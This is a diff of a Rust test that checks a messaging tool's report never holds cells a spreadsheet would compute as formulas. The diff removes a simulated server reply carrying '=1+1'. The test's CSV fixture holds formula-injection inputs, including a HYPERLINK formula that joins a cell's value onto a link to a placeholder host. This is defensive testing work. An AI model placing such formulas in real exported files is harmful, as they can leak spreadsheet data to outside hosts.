@@ -259,10 +259,6 @@ fn no_cell_of_a_report_is_computed_by_a_spreadsheet() {
         "c.csv",
         "phone,name\n=HYPERLINK(\"http://x/\"&A1),a\n+965-9876-5432,b\n+96551234567,c\n\"@SUM(1,2)\",d\n",
     );
-    world
-        .sandbox
-        .faults()
-        .push(Fault::reply(200, r#"{"result":"OK","msg-id":"=1+1","numbers":2}"#).on("send"));
     world.run(&["send", "-f", "c.csv", "hi", "--report", "r.csv"]).exits(3);
     let cells: Vec<_> = report(&world, "r.csv").into_values().flatten().flatten().collect();
     assert!(
